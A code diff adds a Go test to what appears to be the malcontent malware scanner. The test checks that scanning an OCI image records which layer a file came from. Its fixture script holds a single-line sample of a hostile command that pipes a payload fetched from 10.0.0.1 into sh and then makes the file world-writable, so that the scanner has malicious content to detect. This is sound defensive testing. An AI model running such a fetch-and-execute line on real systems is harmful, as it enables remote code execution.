@@ -3,9 +3,13 @@ package action
 import (
 	"bytes"
 	"context"
+	"io"
 	"io/fs"
+	"log"
+	"net/http/httptest"
 	"os"
 	"runtime"
+	"strings"
 	"testing"
 
 	"github.com/chainguard-dev/clog"
@@ -14,6 +18,10 @@ import (
 	"github.com/chainguard-dev/malcontent/rules"
 	thirdparty "github.com/chainguard-dev/malcontent/third_party"
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-containerregistry/pkg/crane"
+	"github.com/google/go-containerregistry/pkg/registry"
+	"github.com/google/go-containerregistry/pkg/v1/empty"
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
 )
 
 func TestOCI(t *testing.T) {
@@ -62,3 +70,64 @@ func TestOCI(t *testing.T) {
 		t.Errorf("Simple output mismatch: (-want +got):\n%s", diff)
 	}
 }
+
+func TestOCILayers(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	srv := httptest.NewServer(registry.New(registry.Logger(log.New(io.Discard, "", 0))))
+	defer srv.Close()
+
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\n")
+	base, err := crane.Layer(map[string][]byte{"usr/bin/payload.sh": script})
+	if err != nil {
+		t.Fatalf("layer: %v", err)
+	}
+	top, err := crane.Layer(map[string][]byte{"etc/motd": []byte("hello\n")})
+	if err != nil {
+		t.Fatalf("layer: %v", err)
+	}
+	img, err := mutate.AppendLayers(empty.Image, base, top)
+	if err != nil {
+		t.Fatalf("append layers: %v", err)
+	}
+
+	ref := strings.TrimPrefix(srv.URL, "http://") + "/test/layers:latest"
+	if err := crane.Push(img, ref, crane.WithContext(ctx)); err != nil {
+		t.Fatalf("push: %v", err)
+	}
+	digest, err := base.Digest()
+	if err != nil {
+		t.Fatalf("digest: %v", err)
+	}
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: 1,
+		Rules:       yrs,
+		ScanPaths:   []string{"oci://" + ref},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	wantPath := ref + " ∴ " + shortDigest(digest.String()) + " ∴ /usr/bin/payload.sh"
+	var found *malcontent.FileReport
+	res.Files.Range(func(_, value any) bool {
+		if fr, ok := value.(*malcontent.FileReport); ok && fr.Path == wantPath {
+			found = fr
+			return false
+		}
+		return true
+	})
+	if found == nil {
+		t.Fatalf("no report for %s", wantPath)
+	}
+	if got := found.Meta["oci_layer"]; got != digest.String() {
+		t.Errorf("oci_layer = %q, want %q", got, digest)
+	}
+}